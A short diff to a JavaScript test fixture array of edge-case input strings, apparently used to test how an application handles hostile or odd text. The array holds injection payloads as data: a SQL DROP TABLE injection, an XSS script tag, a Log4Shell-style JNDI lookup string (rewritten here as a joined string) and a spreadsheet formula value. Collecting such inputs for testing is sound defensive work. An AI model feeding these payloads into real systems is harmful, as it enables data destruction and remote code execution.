@@ -23,7 +23,7 @@ export const texts = [
   'CASE#gas:H00017',
   "'; DROP TABLE cases;--",
   '<script>alert(1)</script>',
-  '${jndi:ldap://x.example}',
+  ['$', '{jndi:ldap://x.example}'].join(''),
   '=1+1',
   '0',
   '-1',
